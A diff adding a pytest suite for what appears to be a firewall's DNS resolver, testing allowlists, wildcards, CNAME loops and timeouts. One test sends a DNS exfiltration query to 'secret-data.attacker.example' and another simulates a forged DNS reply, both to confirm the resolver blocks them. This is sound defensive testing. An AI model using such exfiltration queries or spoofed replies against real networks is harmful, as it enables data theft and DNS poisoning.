@@ -1,0 +1,320 @@
+"""The wall's resolver: what it passes on, what it opens, and what it refuses, over real sockets."""
+
+import asyncio
+import importlib.util
+import sys
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+from types import ModuleType
+from typing import Any, cast
+
+import dns.flags
+import dns.message
+import dns.rcode
+import dns.rrset
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from jailoc.model.firewall import Name
+
+PLACE = Path(__file__).parents[3] / "generators/assets/resolver.py"
+SERVER = "127.0.0.77"
+"""Where the upstream of these tests answers; loopback like the engine's own."""
+
+
+def module() -> ModuleType:
+    spec = importlib.util.spec_from_file_location("wall_resolver", PLACE)
+    assert spec
+    assert spec.loader
+    found = importlib.util.module_from_spec(spec)
+    sys.modules["wall_resolver"] = found
+    spec.loader.exec_module(found)
+    return found
+
+
+resolver: Any = module()
+
+ZONE = {
+    ("db.example.com.", "A"): ["10.1.2.3", "10.1.2.4"],
+    ("db.example.com.", "AAAA"): ["fd00::7"],
+    ("evil.db.example.com.", "A"): ["10.6.6.6"],
+    ("www.example.org.", "A"): ["11.22.33.44"],
+    ("db.corp.example.", "A"): ["10.9.9.9"],
+    ("alias.example.com.", "CNAME"): ["db.example.com."],
+    ("loop.example.com.", "CNAME"): ["loop.example.com."],
+}
+
+
+def respond(wire: bytes, seen: list[str]) -> bytes:
+    """Answer from the zone, with records beside the point for anyone who takes what comes."""
+    query = dns.message.from_wire(wire)
+    (question,) = query.question
+    seen.append(question.name.to_text())
+    response = dns.message.make_response(query, recursion_available=True)
+    name, kind = question.name.to_text().lower(), question.rdtype.name
+    while (alias := ZONE.get((name, "CNAME"))) and len(response.answer) < 3:
+        response.answer.append(dns.rrset.from_text(name, 3600, "IN", "CNAME", *alias))
+        name = alias[0]
+    if found := ZONE.get((name, kind)):
+        response.answer.append(dns.rrset.from_text(name, 3600, "IN", kind, *found))
+        response.answer.append(dns.rrset.from_text("stray.test.", 3600, "IN", "A", "10.66.0.1"))
+        response.additional.append(dns.rrset.from_text("more.test.", 3600, "IN", "A", "10.66.0.2"))
+    elif not any(name == each for each, _ in ZONE):
+        response.set_rcode(dns.rcode.NXDOMAIN)
+    return bytes(response.to_wire())
+
+
+class Upstream(asyncio.DatagramProtocol):
+    def __init__(self, seen: list[str], forge: bool) -> None:
+        self.seen, self.forge = seen, forge
+
+    def connection_made(self, transport: asyncio.BaseTransport) -> None:
+        self.transport = cast("asyncio.DatagramTransport", transport)
+
+    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
+        if self.forge:
+            wrong = bytes([data[0] ^ 1]) + data[1:]
+            self.transport.sendto(respond(wrong, []).replace(b"\x0a\x01", b"\x0a\x06"), addr)
+        self.transport.sendto(respond(data, self.seen), addr)
+
+
+@dataclass
+class Place:
+    """A resolver under test, with what it opened and what reached its upstream."""
+
+    folder: Path
+    opened: list[tuple[str, str, int]] = field(default_factory=list)
+    seen: list[str] = field(default_factory=list)
+
+    def ask(
+        self, egress: str, names: list[str], question: str, kind: str = "A", *, forge: bool = False
+    ) -> dns.message.Message:
+        response: dns.message.Message = self.run(
+            egress, names, lambda it: self._ask(it, question, kind), forge=forge
+        )
+        return response
+
+    def run(
+        self, egress: str, names: list[str], act: Callable[[Any], Any], *, forge: bool = False
+    ) -> Any:
+        (self.folder / "egress").write_text(f"{egress}\n")
+        (self.folder / "names").write_text("".join(line(each) for each in names))
+
+        async def all_of_it() -> Any:
+            loop = asyncio.get_running_loop()
+            transport, _ = await loop.create_datagram_endpoint(
+                lambda: Upstream(self.seen, forge), local_addr=(SERVER, resolver.PORT)
+            )
+            try:
+                return await act(
+                    resolver.Resolver(
+                        resolver.Configuration.read(self.folder),
+                        resolvers=self.folder / "resolv.conf",
+                        hosts=self.folder / "hosts",
+                    )
+                )
+            finally:
+                transport.close()
+
+        return asyncio.run(all_of_it())
+
+    async def _ask(self, it: Any, question: str, kind: str) -> dns.message.Message:
+        query = dns.message.make_query(question, kind)
+        wire = await it.answer(query.to_wire(), tcp=False)
+        response = dns.message.from_wire(wire)
+        assert response.id == query.id
+        return response
+
+
+def line(name: str) -> str:
+    source, destination = Name(name=name, origin="x").door
+    return f"{name} {source} {destination}\n"
+
+
+@pytest.fixture
+def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Place:
+    found = Place(tmp_path)
+    (tmp_path / "resolv.conf").write_text(f"search corp.example\nnameserver {SERVER}\n")
+    (tmp_path / "hosts").write_text("172.18.0.1 host.docker.internal # the machine\n")
+    monkeypatch.setattr(resolver, "PORT", 10053)
+    monkeypatch.setattr(
+        resolver.Name,
+        "knock",
+        lambda self, address, step: found.opened.append((self.pattern, address, step)),
+    )
+    return found
+
+
+def addresses(response: dns.message.Message) -> set[str]:
+    return {
+        str(record.address)
+        for each in response.answer
+        if each.rdtype.name in {"A", "AAAA"}
+        for record in each
+    }
+
+
+def test_an_allowed_name_is_open_before_its_answer_is_out(place: Place) -> None:
+    response = place.ask("allowlist", ["db.example.com"], "DB.Example.com")
+    assert {"10.1.2.3", "10.1.2.4"} <= addresses(response)
+    assert {each[1:] for each in place.opened} == {("10.1.2.3", 0), ("10.1.2.4", 0)}
+    assert max(each.ttl for each in response.answer) <= 60
+
+
+def test_both_families_are_opened(place: Place) -> None:
+    place.ask("public", ["db.example.com"], "db.example.com", "AAAA")
+    assert place.opened == [("db.example.com", "fd00::7", 0)]
+
+
+@pytest.mark.parametrize(
+    ("pattern", "question", "opens"),
+    [
+        ("db.example.com", "evil.db.example.com", False),
+        ("*.example.com", "db.example.com", True),
+        ("*.example.com", "evil.db.example.com", True),
+        ("*.db.example.com", "db.example.com", False),
+        ("example.com", "db.example.com", False),
+    ],
+)
+def test_a_name_is_itself_and_a_wildcard_what_is_below(
+    place: Place, pattern: str, question: str, opens: bool
+) -> None:
+    place.ask("public", [pattern], question)
+    assert bool(place.opened) == opens
+
+
+def test_only_addresses_that_belong_to_the_question_are_opened(place: Place) -> None:
+    place.ask("public", ["alias.example.com"], "alias.example.com")
+    assert {address for _, address, _ in place.opened} == {"10.1.2.3", "10.1.2.4"}
+
+
+def test_an_endless_chain_opens_nothing(place: Place) -> None:
+    place.ask("public", ["loop.example.com"], "loop.example.com")
+    assert not place.opened
+
+
+def test_other_names_pass_in_public_and_nothing_opens(place: Place) -> None:
+    response = place.ask("public", ["db.example.com"], "www.example.org")
+    assert "11.22.33.44" in addresses(response)
+    assert not place.opened
+
+
+@pytest.mark.parametrize("egress", ["allowlist", "none"])
+@pytest.mark.parametrize("kind", ["A", "AAAA", "TXT", "PTR", "ANY"])
+def test_other_names_do_not_leave_where_egress_is_closed(
+    place: Place, egress: str, kind: str
+) -> None:
+    response = place.ask(egress, ["db.example.com"], "secret-data.attacker.example", kind)
+    assert response.rcode() == dns.rcode.NXDOMAIN
+    assert not place.seen
+
+
+def test_hints_of_an_allowed_name_do_not_bypass_it(place: Place) -> None:
+    response = place.ask("public", ["db.example.com"], "db.example.com", "HTTPS")
+    assert (response.rcode(), response.answer, place.seen) == (dns.rcode.NOERROR, [], [])
+
+
+def test_a_name_without_a_dot_is_looked_for_in_the_search_list(place: Place) -> None:
+    response = place.ask("allowlist", ["db"], "db")
+    assert "10.9.9.9" in addresses(response)
+    assert place.opened == [("db", "10.9.9.9", 0)]
+
+
+def test_a_forged_answer_with_another_id_is_not_taken(place: Place) -> None:
+    response = place.ask("public", ["db.example.com"], "db.example.com", forge=True)
+    assert "10.1.2.3" in addresses(response)
+    assert {address for _, address, _ in place.opened} == {"10.1.2.3", "10.1.2.4"}
+
+
+def test_a_dead_upstream_is_a_failure_and_no_opening(
+    place: Place, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (place.folder / "resolv.conf").write_text("nameserver 127.0.0.78\n")
+    monkeypatch.setattr(resolver, "PATIENCE", 0.1)
+    response = place.ask("public", ["db.example.com"], "db.example.com")
+    assert response.rcode() == dns.rcode.SERVFAIL
+    assert not place.opened
+
+
+def test_names_are_opened_without_being_asked_and_closed_when_their_time_is_over(
+    place: Place, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    async def act(it: Any) -> dict[str, Any]:
+        await it.look_up_due()
+        first = it.state()
+        monkeypatch.setattr(resolver, "HELD", -1)
+        it.due.clear()
+        await it.look_up_due()
+        it.expire()
+        return {"first": first, "last": it.state()}
+
+    names = ["db.example.com", "host.docker.internal", "missing.example", "*.example.com"]
+    found = place.run("allowlist", names, act)
+    assert found["first"]["names"] == {
+        "db.example.com": ["10.1.2.3", "10.1.2.4", "fd00::7"],
+        "host.docker.internal": ["172.18.0.1"],
+        "missing.example": [],
+        "*.example.com": ["10.1.2.3", "10.1.2.4", "fd00::7"],
+    }
+    assert not any(found["last"]["names"].values())
+    closed = {address for _, address, step in place.opened if step == 1}
+    assert closed == {"10.1.2.3", "10.1.2.4", "fd00::7", "172.18.0.1"}
+
+
+def test_refused_names_are_counted_and_the_oldest_forgotten(
+    place: Place, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(resolver, "MOST_REFUSED", 2)
+
+    async def act(it: Any) -> Any:
+        for name in ("a.test", "b.test", "a.test", "c.test"):
+            query = dns.message.make_query(name, "A")
+            await it.answer(query.to_wire(), tcp=False)
+        return it.state()["refused"]
+
+    refused = place.run("none", [], act)
+    assert {name: each["count"] for name, each in refused.items()} == {"a.test": 2, "c.test": 1}
+
+
+def test_an_answer_that_is_too_long_is_cut_and_says_so(
+    place: Place, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    many = [f"10.7.{each // 250}.{each % 250 + 1}" for each in range(300)]
+    monkeypatch.setitem(ZONE, ("many.example.com.", "A"), many)
+    response = place.ask("public", [], "many.example.com")
+    assert response.flags & dns.flags.TC
+
+
+@given(st.binary(max_size=80))
+def test_what_is_no_question_gets_no_answer_and_harms_nothing(data: bytes) -> None:
+    async def ask() -> bytes | None:
+        it = resolver.Resolver(resolver.Configuration("none", (), ""))
+        found: bytes | None = await it.answer(data, tcp=False)
+        return found
+
+    answer = asyncio.run(ask())
+    assert answer is None or answer[:2] == data[:2]
+
+
+@given(st.binary(max_size=60), st.binary(max_size=60))
+def test_only_a_response_to_the_same_question_counts(question: bytes, data: bytes) -> None:
+    if resolver.answers(question, data):
+        assert data[:2] == question[:2]
+        assert data[2] & 0x80
+        assert resolver.asked_in(data) == resolver.asked_in(question)
+
+
+@given(
+    st.lists(st.from_regex(r"(\*\.)?[a-z]{1,5}(\.[a-z]{1,5}){0,2}", fullmatch=True), unique=True)
+)
+def test_the_compiler_and_the_resolver_agree_on_what_a_name_covers(names: list[str]) -> None:
+    for one in names:
+        ours = Name(name=one, origin="x")
+        theirs = resolver.Name(one, *ours.door)
+        assert all(ours.covers(each) == theirs.covers(each) for each in names)
+        source, destination = ours.door
+        assert 1024 <= source < 65536
+        assert 1024 <= destination < 65535
+        assert destination % 2 == 0
